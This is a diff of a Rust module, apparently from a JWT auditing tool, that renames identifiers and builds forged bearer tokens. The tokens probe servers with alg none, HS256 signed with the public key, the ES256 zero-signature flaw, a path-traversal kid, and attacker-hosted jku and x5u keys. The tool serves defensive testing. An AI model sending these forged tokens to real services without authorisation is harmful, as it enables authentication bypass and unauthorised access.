@@ -1,4 +1,4 @@
-//! Forged tokens: what somebody can make who knows the provider's public documents, and its private key not.
+//! Forged tokens: what an attacker can make from the public documents of a provider, without its private key.
 
 use app::registry::REGISTRY;
 use base64::Engine;
@@ -7,32 +7,33 @@ use jsonwebtoken::Algorithm;
 use serde_json::{Value, json};
 
 use super::AuditError;
-use super::attack::{Attack, Expect, Family, bearer};
-use super::forge::{OwnKey, hs256, message, now};
-use super::lure::Lure;
-use super::target::{Issuer, PublicKey};
+use super::attack::{Attack, Expectation, Family, bearer};
+use super::attacker_key_server::AttackerKeyServer;
+use super::forger_key::{ForgerKey, hs256, now, signing_input};
+use super::public_key::PublicKey;
+use super::target_info::Issuer;
 
-/// Who forges in the name of one issuer.
+/// An attacker who forges tokens of one issuer.
 pub struct Forger {
-    /// In whose name.
+    /// The issuer.
     pub issuer: Issuer,
-    /// With which key.
-    pub own: OwnKey,
+    /// The key of the attacker.
+    pub key: ForgerKey,
     algorithm: String,
     audiences: Vec<String>,
 }
 
 impl Forger {
-    /// A forger in the name of `issuer`, of tokens for `audiences`.
+    /// Creates a forger of tokens for `audiences`.
     ///
     /// # Errors
-    /// When the system has no randomness to give.
+    /// [`AuditError::Randomness`] if no key can be generated.
     pub fn new(issuer: Issuer, audiences: Vec<String>) -> Result<Self, AuditError> {
         let algorithm = issuer.key.as_ref().map_or(Algorithm::RS256, |key| key.algorithm);
-        Ok(Self { own: OwnKey::generate(algorithm)?, algorithm: format!("{algorithm:?}"), issuer, audiences })
+        Ok(Self { key: ForgerKey::generate(algorithm)?, algorithm: format!("{algorithm:?}"), issuer, audiences })
     }
 
-    /// The claims of a token that would open everything, as JSON.
+    /// Returns claims with access to everything, as JSON.
     fn claims(&self) -> String {
         json!({
             "iss": self.issuer.name, "sub": "portcullis-audit", "aud": self.audiences, "client_id": "portcullis-audit",
@@ -41,7 +42,7 @@ impl Forger {
         .to_string()
     }
 
-    /// The header of a good token, with `change` made to it; a change to null removes a member.
+    /// Returns a valid header with the members of `change`. A `null` in it removes a member.
     fn header(&self, change: &Value) -> String {
         let mut header = json!({"alg": self.algorithm, "typ": "at+jwt"});
         if let Some(PublicKey { id: Some(id), .. }) = &self.issuer.key {
@@ -55,12 +56,12 @@ impl Forger {
         header.to_string()
     }
 
-    /// A token by the forger's own key, with `change` made to its header.
+    /// Returns a token that is signed by the key of the forger, with `change` applied to its header.
     ///
     /// # Errors
-    /// When the system has no randomness to give.
+    /// [`AuditError::Randomness`] if it cannot be signed.
     pub fn token(&self, change: &Value) -> Result<String, AuditError> {
-        Ok(self.own.sign(&self.header(change), &self.claims())?)
+        Ok(self.key.sign(&self.header(change), &self.claims())?)
     }
 }
 
@@ -68,15 +69,15 @@ fn of(name: impl Into<String>, token: &str) -> Attack {
     Attack::new(Family::Forged, name, bearer(token))
 }
 
-/// Tokens that are none: their form is wrong, whoever signed them.
-pub(super) fn broken(forger: &Forger) -> Result<Vec<Attack>, AuditError> {
+/// Returns attacks with malformed tokens.
+pub(super) fn malformed(forger: &Forger) -> Result<Vec<Attack>, AuditError> {
     let good = forger.token(&json!({}))?;
     let (head, claims) = (forger.header(&json!({})), forger.claims());
     let (message, signature) = good.rsplit_once('.').unwrap_or_default();
     let payload = message.split_once('.').unwrap_or_default().1;
     let twice = |json: &str, member: &str| format!("{{{member},{}", &json[1..]);
     let list = |json: &str| format!("[{json}]");
-    let own = |head: &str, claims: &str| forger.own.sign(head, claims);
+    let own = |head: &str, claims: &str| forger.key.sign(head, claims);
     Ok(vec![
         of("no JWT", "portcullis-audit-sends-no-token-here"),
         of("two parts", message),
@@ -94,25 +95,30 @@ pub(super) fn broken(forger: &Forger) -> Result<Vec<Attack>, AuditError> {
             "20,000 letters",
             &format!("{}.{}.{signature}", good.split('.').next().unwrap_or_default(), "A".repeat(20_000)),
         )
-        .expecting(Expect::UnknownOrUnreadable),
+        .expecting(Expectation::UnauthorizedOrMalformed),
     ])
 }
 
-/// Tokens in their right form, with every trick that made some server take one. `suffix` tells issuers apart.
-pub(super) fn signed(forger: &Forger, suffix: &str, lure: &Lure) -> Result<Vec<Attack>, AuditError> {
+/// Returns attacks with well-formed tokens, one for each trick that has worked on some server. `suffix` tells issuers
+/// apart.
+pub(super) fn well_formed(
+    forger: &Forger,
+    suffix: &str,
+    key_server: &AttackerKeyServer,
+) -> Result<Vec<Attack>, AuditError> {
     let claims = forger.claims();
     let head = |change: Value| forger.header(&change);
     let own = |change: Value| forger.token(&change);
-    let unsigned = |change: Value| format!("{}.", message(&head(change), &claims));
+    let unsigned = |change: Value| format!("{}.", signing_input(&head(change), &claims));
     let hmac = |secret: &[u8]| hs256(&head(json!({"alg": "HS256"})), &claims, secret);
     let jwk = {
-        let mut jwk = forger.own.jwk.clone();
+        let mut jwk = forger.key.jwk.clone();
         jwk["kid"] = json!("portcullis-audit");
         jwk
     };
     let with_zeros = |algorithm: &str| {
         let signature = "A".repeat(86); // Two numbers of 32 bytes, both zero (CVE-2022-21449).
-        format!("{}.{signature}", message(&head(json!({"alg": algorithm})), &claims))
+        format!("{}.{signature}", signing_input(&head(json!({"alg": algorithm})), &claims))
     };
     let mut attacks = vec![
         of("alg none", &unsigned(json!({"alg": "none"}))),
@@ -127,20 +133,22 @@ pub(super) fn signed(forger: &Forger, suffix: &str, lure: &Lure) -> Result<Vec<A
         of("HS256, the secret secret", &hmac(b"secret")),
         of("ES256 with zeros", &with_zeros("ES256")),
         of("own key, no kid", &own(json!({"kid": null}))?),
-        of("own key, unknown kid", &own(json!({"kid": "portcullis-audit"}))?).expecting(Expect::UnknownKey),
-        of("own key, kid is a path", &own(json!({"kid": "../../../../../../dev/null"}))?).expecting(Expect::UnknownKey),
+        of("own key, unknown kid", &own(json!({"kid": "portcullis-audit"}))?)
+            .expecting(Expectation::UnauthorizedOrKeyPending),
+        of("own key, kid is a path", &own(json!({"kid": "../../../../../../dev/null"}))?)
+            .expecting(Expectation::UnauthorizedOrKeyPending),
         of("own key, kid is a list", &own(json!({"kid": ["portcullis-audit"]}))?),
         of("own key in jwk", &own(json!({"kid": "portcullis-audit", "jwk": jwk}))?),
-        of("own key in x5c", &own(json!({"kid": null, "x5c": [STANDARD.encode(&forger.own.certificate)]}))?),
+        of("own key in x5c", &own(json!({"kid": null, "x5c": [STANDARD.encode(&forger.key.certificate)]}))?),
         of("a critical extension", &own(json!({"crit": ["exp"], "exp": now() + 3600}))?),
         of("an unencoded payload (b64)", &own(json!({"crit": ["b64"], "b64": false}))?),
         of("the type of another token", &own(json!({"typ": "logout+jwt"}))?),
     ];
     for (name, change, path) in [
-        ("own key by jku", json!({"kid": "portcullis-audit", "jku": lure.at("/jku", suffix)}), "/jku"),
-        ("own key by x5u", json!({"kid": null, "x5u": lure.at("/x5u", suffix)}), "/x5u"),
+        ("own key by jku", json!({"kid": "portcullis-audit", "jku": key_server.url("/jku", suffix)}), "/jku"),
+        ("own key by x5u", json!({"kid": null, "x5u": key_server.url("/x5u", suffix)}), "/x5u"),
     ] {
-        attacks.push(Attack { lure: Some(path), ..of(name, &own(change)?) });
+        attacks.push(Attack { key_path: Some(path), ..of(name, &own(change)?) });
     }
     if let Some(PublicKey { id, pem, bytes, .. }) = &forger.issuer.key {
         attacks.push(of("HS256, public key as PEM", &hmac(pem.as_bytes())));
@@ -153,6 +161,6 @@ pub(super) fn signed(forger: &Forger, suffix: &str, lure: &Lure) -> Result<Vec<A
     for attack in &mut attacks {
         attack.name += suffix;
     }
-    lure.offer(suffix, jwk, &forger.own.certificate);
+    key_server.publish(suffix, jwk, &forger.key.certificate);
     Ok(attacks)
 }
